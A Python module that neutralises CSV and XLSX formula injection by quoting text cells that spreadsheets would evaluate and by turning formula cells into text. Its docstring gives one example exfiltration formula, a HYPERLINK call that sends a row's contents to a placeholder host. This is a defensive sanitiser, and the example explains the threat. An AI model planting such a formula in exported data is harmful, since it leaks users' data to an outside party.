"""SEC-1: spreadsheet cells never run as formulas (CSV/formula injection).

Every CSV and XLSX the product writes passes its cell values through this module. A text cell
that starts with ``= + - @`` or a tab / carriage return is what Excel, WPS and LibreOffice run
as a formula (``=HYPERLINK("http://x/?"&A2,"x")`` sends the row to a stranger); following OWASP,
such text gets a leading single quote, so it is shown as typed and never evaluated. Numbers,
dates and other typed values are left alone: a number -5 is a number, not a formula.

For XLSX, openpyxl turns any string starting with ``=`` into a formula cell; ``write_row``
and ``workbook_bytes`` make sure no cell of a written workbook is a formula.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from datetime import date, time, timedelta
from numbers import Number
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a cell: text a spreadsheet would evaluate gets a leading ``'``.

    Numbers, dates and booleans stay typed. Anything else is a text cell: an object (a resident
    in a relationship column, a lazy translation) is written as its text, so it is checked as text.
    """
    if value is None or isinstance(value, Number | date | time | timedelta):
        return value
    text = str.__str__(value) if isinstance(value, str) else str(value)  # Markup would escape the quote
    if text.startswith(FORMULA_START):
        return "'" + text
    return value if isinstance(value, str) else text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in values]


def write_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append one row to an openpyxl worksheet, every text cell stored as text."""
    sheet.append(safe_row(values))


def _defuse(workbook: Any) -> None:
    """Any formula cell left in the workbook (a direct ``cell.value = …``) becomes plain text."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.value = neutralise(str(cell.value))
                    cell.data_type = "s"


def workbook_bytes(workbook: Any) -> bytes:
    """The saved workbook, checked so that no cell is a formula."""
    _defuse(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


__all__ = ["FORMULA_START", "neutralise", "safe_row", "workbook_bytes", "write_row"]
